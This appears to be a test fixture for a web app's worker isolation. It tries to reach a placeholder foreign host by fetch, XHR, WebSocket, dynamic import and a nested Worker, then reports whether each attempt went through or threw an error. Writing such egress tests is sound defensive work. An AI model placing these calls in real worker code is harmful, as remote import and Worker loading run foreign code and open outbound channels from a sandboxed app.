// Put before the code of the app's own worker: what a bad line in it could try.
{
  const foreign = '127.0.0.1:__FOREIGN__'
  const out = name => `http://${foreign}/${name}`
  const channel = new BroadcastChannel('attempts')
  const attempts = {
    'worker-fetch': name => fetch(out(name), { mode: 'no-cors' }),
    'worker-own-fetch': () => fetch('/manifest.webmanifest'),
    'worker-xhr': name => {
      const request = new XMLHttpRequest()
      request.open('GET', out(name))
      request.send()
    },
    'worker-web-socket': name => new WebSocket(`ws://${foreign}/${name}`),
    'worker-import': name => import(/* @vite-ignore */ out(name)),
    'worker-worker': name => new Worker(out(name)),
  }
  for (const [name, attempt] of Object.entries(attempts)) {
    Promise.resolve()
      .then(() => attempt(name))
      .then(
        () => channel.postMessage(`${name}: tried`),
        error => channel.postMessage(`${name}: threw ${error.name}`),
      )
  }
}
